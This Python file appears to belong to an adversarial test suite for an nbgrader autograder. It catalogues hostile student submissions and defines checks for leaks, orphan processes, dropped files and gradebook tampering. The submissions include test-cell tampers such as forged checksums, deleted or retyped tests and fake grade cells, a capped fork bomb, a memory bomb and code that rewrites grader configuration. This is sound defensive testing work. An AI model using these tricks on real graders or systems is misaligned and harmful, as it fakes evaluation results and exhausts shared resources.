_merge("zz_trick_writes_course_files", "base_mlp_no_relu", "answer", (
    "appends to source/ notebooks and nbgrader_config.py (code every "
    "later nbgrader run would execute), drops files in source/ and "
    "submitted/, backdates its timestamp.txt, writes a fake gradebook.db "
    "and config next to its notebook"),
    ["zz_trick_writes_course_files", "zz_trick_rewrites_config",
     "zz_trick_fake_gradebook"])

# --------------------------------------------------------------------------
# Notebook tampers: (baseline, notebook, description, edit(nb)).
# --------------------------------------------------------------------------


def _cell(nb, grade_id):
    return next(c for c in nb.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def _index(nb, grade_id):
    return nb.cells.index(_cell(nb, grade_id))


def _set_source_pass(nb):
    _cell(nb, "mydense_forward").source = "pass"


def _forge_checksum(nb):
    from nbgrader.utils import compute_checksum

    cell = _cell(nb, "mydense_forward")
    cell.source = "pass"
    cell.metadata.nbgrader["checksum"] = compute_checksum(cell)


def _delete_test(nb):
    nb.cells.remove(_cell(nb, "mydense_forward"))


def _duplicate_test(nb):
    cell = _cell(nb, "mydense_parameters")
    twin = nbformat.from_dict(json.loads(json.dumps(cell)))
    twin["id"] = "mydense-parameters-twin"
    nb.cells.insert(nb.cells.index(cell) + 1, twin)


def _retype_markdown(nb):
    cell = _cell(nb, "mydense_forward")
    index = nb.cells.index(cell)
    markdown = nbformat.v4.new_markdown_cell(cell.source)
    markdown["id"] = cell["id"]
    markdown.metadata = cell.metadata
    nb.cells[index] = markdown


def _repoint_grade_id(nb):
    _cell(nb, "mydense_forward").metadata.nbgrader["grade_id"] = (
        "mydense_parameters")


def _answer_as_grade_cell(nb):
    meta = _cell(nb, "mydense").metadata.nbgrader
    meta.update({"grade": True, "points": 10})


def _strip_metadata(nb):
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)


def _tests_before_answer(nb):
    tests = [c for c in nb.cells
             if c.metadata.get("nbgrader", {}).get("grade")]
    answer = _cell(nb, "mlp")
    for cell in tests:
        nb.cells.remove(cell)
    index = nb.cells.index(answer)
    nb.cells[index:index] = tests


def _points_100(nb):
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100


def _fake_grade_cell(nb):
    index = _index(nb, "mydense_parameters")
    for number, grade_id in enumerate(("bonus_points", "mydense_bonus")):
        cell = nbformat.v4.new_code_cell("pass")
        cell["id"] = "fake-grade-cell-%d" % number
        cell.metadata["nbgrader"] = {
            "grade": True, "grade_id": grade_id, "locked": True,
            "points": 50, "schema_version": 3, "solution": False,
            "task": False}
        nb.cells.insert(index, cell)


def _schema_version(nb):
    for cell in nb.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = 1


def _kernelspec(nb):
    nb.metadata["kernelspec"] = {
        "display_name": "Bash", "language": "bash", "name": "bash"}
    nb.metadata["language_info"] = {"name": "bash"}


TAMPERS = {
    "tamper_test_source_pass": (
        "base_dense_no_relu", NB_DENSE,
        "the failing test cell's source replaced by pass", _set_source_pass),
    "tamper_forged_checksum": (
        "base_dense_no_relu", NB_DENSE,
        "the failing test cell replaced by pass, its checksum recomputed",
        _forge_checksum),
    "tamper_deleted_test_cell": (
        "base_dense_no_relu", NB_DENSE,
        "the failing test cell deleted", _delete_test),
    "tamper_duplicated_test_cell": (
        "base_dense_no_relu", NB_DENSE,
        "the passing test cell duplicated (same grade_id twice)",
        _duplicate_test),
    "tamper_test_retyped_markdown": (
        "base_dense_no_relu", NB_DENSE,
        "the failing test cell turned into a markdown cell",
        _retype_markdown),
    "tamper_grade_id_repointed": (
        "base_dense_no_relu", NB_DENSE,
        "the failing test cell's grade_id re-pointed to the passing one's",
        _repoint_grade_id),
    "tamper_answer_made_grade_cell": (
        "base_dense_no_relu", NB_DENSE,
        "the answer cell marked as a grade cell worth 10 points",
        _answer_as_grade_cell),
    "tamper_metadata_removed": (
        "base_dense_no_relu", NB_DENSE,
        "nbgrader metadata removed from every cell", _strip_metadata),
    "tamper_tests_before_answer": (
        "base_mlp_no_relu", NB_MLP,
        "test cells moved before the answer cell", _tests_before_answer),
    "tamper_points_100": (
        "base_mlp_no_relu", NB_MLP,
        "every test cell's points set to 100", _points_100),
    "tamper_fake_grade_cells": (
        "base_dense_no_relu", NB_DENSE,
        "two extra grade cells (new grade_ids, 50 points, body pass)",
        _fake_grade_cell),
    "tamper_schema_version": (
        "base_dense_no_relu", NB_DENSE,
        "schema_version of every nbgrader cell set to 1", _schema_version),
    "tamper_kernelspec": (
        "base_mlp_no_relu", NB_MLP,
        "the notebook's kernelspec switched to a bash kernel", _kernelspec),
}

# --------------------------------------------------------------------------
# Bad inputs: (notebook, description, edit, unusable, incident).  The
# answers are the instructor's; ``edit`` gets the submission folder.
# --------------------------------------------------------------------------


def _write_text(notebook, text):
    def edit(folder):
        (folder / (notebook + ".ipynb")).write_text(text, encoding="utf-8")
    return edit


def _nbformat3(folder):
    path = folder / (NB_DENSE + ".ipynb")
    nb = nbformat.read(path, as_version=4)
    nbformat.write(nbformat.convert(nb, 3), path, version=3)


def _missing(folder):
    (folder / (NB_DENSE + ".ipynb")).unlink()


def _renamed(folder):
    path = folder / (NB_DENSE + ".ipynb")
    path.rename(folder / (NB_DENSE + "-Copy1.ipynb"))


def _edit_nb(notebook, edit):
    def apply(folder):
        path = folder / (notebook + ".ipynb")
        nb = nbformat.read(path, as_version=4)
        edit(nb)
        nbformat.write(nb, path)
    return apply


def _is_graded(cell):
    return "nbgrader" in cell.metadata


def _extra_cells(nb):
    index = _index(nb, "mydense") + 1
    extra = [nbformat.v4.new_markdown_cell("# 我自己加的说明"),
             nbformat.v4.new_code_cell("my_extra_value = 42"),
             nbformat.v4.new_raw_cell("raw text")]
    for number, cell in enumerate(extra):
        cell["id"] = "extra-cell-%d" % number
    nb.cells[index:index] = extra
    tail = nbformat.v4.new_code_cell("print('the end')")
    tail["id"] = "extra-cell-tail"
    nb.cells.append(tail)


def _reordered_cells(nb):
    last = max(i for i, c in enumerate(nb.cells) if _is_graded(c))
    nb.cells[last + 1:] = list(reversed(nb.cells[last + 1:]))
    nb.cells.append(nb.cells.pop(0))


def _added_and_reordered(nb):
    _extra_cells(nb)
    _reordered_cells(nb)


def _deleted_cells(nb):
    """Every other ungraded cell (but the set-up) deleted."""
    ungraded = [c for c in nb.cells
                if not _is_graded(c) and c.get("id") != "setup"]
    dropped = {id(c) for c in ungraded[::2]}
    nb.cells = [c for c in nb.cells if id(c) not in dropped]


def _changed_types(nb):
    for index, cell in enumerate(nb.cells):
        if _is_graded(cell) or cell.get("id") == "setup":
            continue
        if cell.cell_type == "markdown":
            new = nbformat.v4.new_code_cell(cell.source)
        elif index % 2:
            new = nbformat.v4.new_markdown_cell(cell.source)
        else:
            new = nbformat.v4.new_raw_cell(cell.source)
        new["id"] = cell["id"]
        nb.cells[index] = new


def _deleted_and_retyped(nb):
    _deleted_cells(nb)
    _changed_types(nb)


_FORK_BOMB = _src('''
    import os
    import time

    children = []
    for _ in range(2000):
        try:
            pid = os.fork()
        except OSError as exc:
            print('fork refused after', len(children), type(exc).__name__)
            break
        if pid == 0:
            os._exit(0)
        children.append(pid)
    else:
        print('FORK-BOMB-' + 'NOT-CAPPED', len(children))
    for pid in children:
        try:
            os.waitpid(pid, 0)
        except OSError:
            pass
    ''')

_MEMORY_BOMB = _src('''
    import numpy as np

    try:
        block = bytearray(50 * 2**30)
    except MemoryError:
        print('50 GiB bytearray refused')
    try:
        huge = np.ones((50 * 2**30,), dtype=np.uint8)
    except MemoryError:
        print('50 GiB array refused')
    # Then 3 GiB touched page by page (above any sane cap, below the CI
    # machine's memory if nothing caps it).
    chunks = []
    for _ in range(12):
        chunks.append(np.ones((256 * 2**20,), dtype=np.uint8))
    print('MEMORY-' + 'NOT-CAPPED')
    del chunks
    ''')

BAD = {
    "bad_corrupt_json": (
        NB_DENSE, "the notebook is truncated JSON",
        _write_text(NB_DENSE, '{"cells": [{"cell_type": "code", "sou'),
        (NB_DENSE,), ""),
    "bad_empty_file": (
        NB_DENSE, "the notebook is an empty file",
        _write_text(NB_DENSE, ""), (NB_DENSE,), ""),
    "bad_nbformat3": (
        NB_DENSE, "the notebook saved as nbformat 3", _nbformat3,
        (NB_DENSE,), ""),
    "bad_missing_notebook": (
        NB_DENSE, "one notebook not handed in", _missing, (NB_DENSE,), ""),
    "bad_renamed_notebook": (
        NB_DENSE, "one notebook handed in under another name", _renamed,
        (NB_DENSE,), ""),
    "bad_cells_added_reordered": (
        NB_DENSE, "extra markdown, code and raw cells; the ungraded cells "
        "reordered", _edit_nb(NB_DENSE, _added_and_reordered), (), ""),
    "bad_cells_deleted_retyped": (
        NB_DENSE, "every other ungraded cell deleted, the rest turned into "
        "code, markdown or raw", _edit_nb(NB_DENSE, _deleted_and_retyped),
        (), ""),
}

# Runtime bad inputs: a cell added right after 4.1's answer cell.
BAD_CELLS = {
    "bad_infinite_loop": ("an infinite loop (while True: pass)",
                          "while True:\n    pass\n", True),
    "bad_sleep": ("a call that sleeps for 11 days",
                  "import time\n\ntime.sleep(10**6)\n", True),
    "bad_kernel_exit": ("a cell that ends the kernel (os._exit(1))",
                        "import os\n\nos._exit(1)\n", True),
    "bad_memory_bomb": ("a 50 GiB bytearray, a 50 GiB numpy array, then "
                        "3 GiB touched", _MEMORY_BOMB, True),
    "bad_big_print": ("a single 100 MB print",
                      "print('x' * (100 * 2**20))\n", True),
    "bad_fork_bomb": ("a fork bomb (at most 2000 forks, children exit)",
                      _FORK_BOMB, False),
}


# --------------------------------------------------------------------------
# The catalogue
# --------------------------------------------------------------------------


def build(port=9, guard="/nonexistent-guard"):
    """Every entry, in grading order: bystanders, baselines, tricks,
    tampers, bad inputs.  ``port``: a local port the network trick tries;
    ``guard``: a folder no trick writes into (the developer's checkout).
    """
    def fill(code):
        return (code.replace("__GUARD__", repr(str(guard)))
                .replace("__PORT__", str(int(port)))
                .replace("__TOKEN__", repr(ORPHAN_TOKEN))
                .replace("__PATCH__", repr(_PATCH_CHECKS)))

    entries = [
        Entry("by_instructor", "bystander",
              "the instructor's answers: full marks", CH04,
              (NB_MLP, NB_DENSE), {}),
        Entry("by_instructor", "bystander",
              "the instructor's answers: full marks", CH03, (NB_LINREG,),
              {}),
        Entry("by_untouched", "bystander", "the release untouched: zero",
              CH04, (NB_MLP, NB_DENSE), None),
    ]
    for name, (description, assignment, notebooks, answers) in \
            BASELINES.items():
        entries.append(Entry(name, "baseline", description, assignment,
                             notebooks, dict(answers)))
    base = {e.name: e for e in entries if e.kind == "baseline"}
    for name, (baseline, where, description, code) in TRICKS.items():
        b = base[baseline]
        answers = dict(b.answers)
        cells = ()
        answer_id = {NB_MLP: "mlp", NB_DENSE: "mydense",
                     NB_LINREG: "sgd"}[b.notebooks[-1]]
        if where == "answer":
            answers[answer_id] = answers[answer_id] + "\n\n" + fill(code)
        else:
            cells = ((b.notebooks[-1], answer_id, fill(code)),)
        entries.append(Entry(name, "trick", description, b.assignment,
                             b.notebooks, answers, baseline, cells,
                             writes=name.startswith("zz_"),
                             target=b.notebooks[-1]))
    for name, (baseline, notebook, description, edit) in TAMPERS.items():
        b = base[baseline]
        entries.append(Entry(name, "tamper", description, b.assignment,
                             b.notebooks, dict(b.answers), baseline,
                             tamper=_edit_nb(notebook, edit),
                             target=notebook))
    for name, (notebook, description, edit, unusable, incident) in \
            BAD.items():
        entries.append(Entry(name, "bad", description, CH04,
                             (NB_MLP, NB_DENSE), {}, tamper=edit,
                             unusable=unusable,
                             incident=notebook if incident else "",
                             target=notebook))
    for name, (description, code, incident) in BAD_CELLS.items():
        entries.append(Entry(name, "bad", description, CH04,
                             (NB_MLP, NB_DENSE), {},
                             cells=((NB_MLP, "mlp", code),),
                             incident=NB_MLP if incident else "",
                             target=NB_MLP))
    _add_secret(entries)
    return entries


def _add_secret(entries):
    """The instructor bystander's answers carry BYSTANDER_SECRET."""
    from autograder.submissions import instructor_answers

    for entry in entries:
        if entry.name == "by_instructor":
            answers = {}
            for notebook in entry.notebooks:
                for grade_id, code in instructor_answers(
                        entry.assignment, notebook).items():
                    answers[grade_id] = code + "\n" + _SECRET_LINE
            entry.answers = answers


def write_entry(submitted, entry, root):
    """Write one entry's submission under ``submitted``; return its
    folder."""
    folder = write_submission(submitted, entry.name, entry.assignment,
                              entry.answers, root=root,
                              notebooks=list(entry.notebooks))
    for notebook, after, code in entry.cells:
        path = folder / (notebook + ".ipynb")
        nb = nbformat.read(path, as_version=4)
        cell = nbformat.v4.new_code_cell(code)
        cell["id"] = "added-%s" % entry.name.replace("_", "-")
        nb.cells.insert(_index(nb, after) + 1, cell)
        nbformat.write(nb, path)
    if entry.tamper is not None:
        entry.tamper(Path(folder))
    return folder


def write_class(submitted, entries, root):
    """Write every entry's submission."""
    for entry in entries:
        write_entry(submitted, entry, root)


# --------------------------------------------------------------------------
# Judging what grading did (shared by the tests and adversarial_demo.py)
# --------------------------------------------------------------------------

# In nothing a student may see: hidden tests, solutions, the gradebook.
MARKERS = ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS", "BEGIN SOLUTION",
           "END SOLUTION", "SQLite format 3", "CREATE TABLE")
_ANSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
# A traceback frame in course/ (public): "File .../course/testing.py:30,
# in _fail(message, hint)" names a function, not hidden material.
_PUBLIC_FRAME = re.compile(
    r"File [^\n]*[/\\]course[/\\]\w+\.py(:\d+)?,? in [^\n]*")
_SHORTEST_SECRET = 25
_SHORTEST_ALLOWED = 8


def hash_tree(path):
    """One digest of every file's path and bytes under ``path`` (or of the
    file itself); "missing" when it does not exist."""
    path = Path(path)
    if path.is_file():
        return hashlib.sha256(path.read_bytes()).hexdigest()
    if not path.is_dir():
        return "missing"
    return submission_digest(path)


def _notebook_lines(path):
    """Every line of every cell of a notebook (raw lines if unreadable)."""
    try:
        nb = json.loads(Path(path).read_text(encoding="utf-8"))
        cells = nb.get("cells") or [
            c for w in nb.get("worksheets", []) for c in w.get("cells", [])]
        text = "\n".join(
            "".join(c.get("source") or c.get("input") or "")
            for c in cells)
    except (OSError, ValueError, AttributeError, TypeError):
        try:
            text = Path(path).read_bytes().decode("utf-8", "replace")
        except OSError:
            return []
    return text.splitlines()


def _regions(lines, begin, end):
    inside, found = False, []
    for line in lines:
        stripped = line.strip()
        if stripped == begin:
            inside = True
        elif stripped == end:
            inside = False
        elif inside:
            found.append(stripped)
    return found


def secret_lines(root):
    """Lines (at least 25 characters, stripped) a student must never see:
    the reference, the checks, hidden tests and whatever else of source/
    the release does not show."""
    root = Path(root)
    public = set()
    for path in (root / "release").rglob("*.ipynb"):
        public |= {line.strip() for line in _notebook_lines(path)}
    secret = set()
    files = [root / "autograder" / "reference.py"]
    files += sorted((root / "autograder" / "checks").glob("*.py"))
    for path in files:
        secret |= {line.strip() for line in
                   path.read_text(encoding="utf-8").splitlines()}
    for path in (root / "source").rglob("*.ipynb"):
        lines = _notebook_lines(path)
        secret |= set(_regions(lines, "### BEGIN HIDDEN TESTS",
                               "### END HIDDEN TESTS"))
        secret |= {line.strip() for line in lines}
    return {line for line in secret - public
            if len(line) >= _SHORTEST_SECRET}


def allowed_lines(root, student):
    """Lines a student's outputs may repeat: the release, course/ and the
    student's own submitted notebooks (their own code in feedback)."""
    root = Path(root)
    paths = list((root / "release").rglob("*.ipynb"))
    paths += list((root / "submitted" / student).rglob("*.ipynb"))
    lines = {line.strip() for path in paths
             for line in _notebook_lines(path)}
    # course/ is public: tracebacks through it may show its lines.
    for path in (root / "course").glob("*.py"):
        lines |= {line.strip() for line in
                  path.read_text(encoding="utf-8").splitlines()}
    return sorted((line for line in lines
                   if len(line) >= _SHORTEST_ALLOWED), key=len,
                  reverse=True)


def _html_text(page):
    page = re.sub(r"<(style|script)\b.*?</\1>", "", page, flags=re.S)
    return html.unescape(re.sub(r"<[^>]+>", "", page))


def _output_text(nb_path):
    """Every output of an autograded notebook as plain text."""
    try:
        nb = json.loads(Path(nb_path).read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return ""
    parts = []
    for cell in nb.get("cells", []):
        for output in cell.get("outputs", []) or []:
            for key in ("text", "ename", "evalue", "traceback"):
                value = output.get(key)
                if value:
                    parts.append(value if isinstance(value, str)
                                 else "\n".join(map(str, value)))
            for value in (output.get("data") or {}).values():
                if isinstance(value, list):
                    value = "".join(map(str, value))
                parts.append(value if isinstance(value, str)
                             else json.dumps(value, ensure_ascii=False))
    return _ANSI.sub("", "\n".join(parts))


def student_outputs(root, student):
    """{label: text}: the student's feedback pages (as text) and the
    outputs of their autograded notebooks."""
    root = Path(root)
    texts = {}
    for page in sorted((root / "feedback" / student).rglob("*.html")):
        texts[str(page.relative_to(root))] = _html_text(
            page.read_text(encoding="utf-8", errors="replace"))
    for nb in sorted((root / "autograded" / student).rglob("*.ipynb")):
        texts[str(nb.relative_to(root)) + " (outputs)"] = _output_text(nb)
    return texts


def leaks(text, allowed, secrets, foreign=()):
    """What in ``text`` a student must not see, once the ``allowed``
    lines (their own code, the release) are taken out: hidden material,
    secret lines, MARKERS and ``foreign`` strings (others' secrets)."""
    for line in allowed:
        if line in text:
            text = text.replace(line, "\n")
    text = _PUBLIC_FRAME.sub("\n", text)
    found = ["hidden material: %s" % what for what in hidden_material(text)]
    found += ["marker %r" % m for m in MARKERS if m in text]
    found += ["secret line %r" % line for line in sorted(secrets)
              if line in text]
    found += ["%r" % s for s in foreign if s in text]
    return found


def find_orphans(token=ORPHAN_TOKEN):
    """PIDs of live processes whose command line holds ``token``."""
    pids = []
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            argv = cmdline.read_bytes().split(b"\0")
        except OSError:
            continue
        if any(token.encode() in arg for arg in argv) and int(
                cmdline.parent.name) != os.getpid():
            pids.append(int(cmdline.parent.name))
    return sorted(pids)


def dropped_files(root):
    """Files a trick dropped anywhere in the course (named PWNED*/pwned*),
    and gradebooks or configs written under autograded/."""
    root = Path(root)
    found = [p for p in root.rglob("*")
             if p.name.lower().startswith("pwned")]
    autograded = root / "autograded"
    if autograded.is_dir():
        found += [p for p in autograded.rglob("*")
                  if p.name in ("gradebook.db", "nbgrader_config.py")]
    return sorted(str(p.relative_to(root)) for p in found)


def gradebook_intruders(db_path, students):
    """Tables, students and extra credit in the gradebook that grading
    never makes: what a trick wrote into it."""
    from nbgrader.api import Base

    known = set(Base.metadata.tables) | {"alembic_version"}
    con = sqlite3.connect("file:%s?mode=ro" % db_path, uri=True)
    try:
        tables = {name for (name,) in con.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table'")}
        found = ["table %s" % t for t in sorted(tables - known)]
        found += ["student %s" % s for (s,) in con.execute(
            "SELECT id FROM student") if s not in set(students)]
        (credit,) = con.execute(
            "SELECT COUNT(*) FROM grade WHERE extra_credit > 0").fetchone()
        if credit:
            found.append("%d grades with extra credit" % credit)
    finally:
        con.close()
    return found


def describe(entries):
    """One line per entry: name, kind, assignment, description."""
    return "\n".join("%-32s %-9s %-4s %s" % (
        e.name, e.kind, e.assignment[:4], e.description) for e in entries)


if __name__ == "__main__":
    print(describe(build()))
